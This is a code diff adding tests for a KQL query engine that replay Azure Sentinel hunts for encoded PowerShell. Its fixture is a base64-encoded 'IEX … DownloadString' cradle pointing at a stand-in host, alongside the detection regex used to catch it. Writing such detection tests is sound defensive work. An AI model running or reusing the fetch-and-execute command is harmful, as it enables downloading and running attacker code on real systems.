@@ -291,3 +291,25 @@ describe('regex_quote, parse_urlquery', () => {
     { expr: `tostring(parse_urlquery('view=vs-2019&preserve-view=true')["Query Parameters"]["preserve-view"])`, expect: 'true' },
   ]);
 });
+
+// Azure-Sentinel's "Detect Encoded Powershell" and "reverse-shell-nishang-base64" hunts, on one row.
+describe('public hunts decoding PowerShell -EncodedCommand', () => {
+  const command = 'powershell.exe -nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAuAHQAZQBzAHQALwBhACIAKQA=';
+  kqlCases([
+    {
+      query: String.raw`datatable(ProcessCommandLine:string)["${command}", "cmd /c dir"]
+        | where ProcessCommandLine matches regex @'(\s+-((?i)encod?e?d?c?o?m?m?a?n?d?|e|en|enc|ec)\s).*([A-Za-z0-9+/]{50,}[=]{0,2})'
+        | extend DecodedCommand = replace(@'\x00','', base64_decode_tostring(extract("[A-Za-z0-9+/]{50,}[=]{0,2}",0 , ProcessCommandLine)))
+        | project DecodedCommand`,
+      rows: [{ DecodedCommand: 'IEX (New-Object Net.WebClient).DownloadString("http://x.test/a")' }],
+    },
+    {
+      query: String.raw`datatable(ProcessCommandLine:string)["${command}"]
+        | extend SS = split(ProcessCommandLine, " ")
+        | extend DecodeString = base64_decodestring(tostring(SS[3]))
+        | extend FinalString = replace("\\0", "", DecodeString)
+        | project hit = FinalString has "webclient" and FinalString contains "iex", n = strlen(FinalString), before = strlen(DecodeString)`,
+      rows: [{ hit: true, n: 64, before: 128 }],
+    },
+  ]);
+});
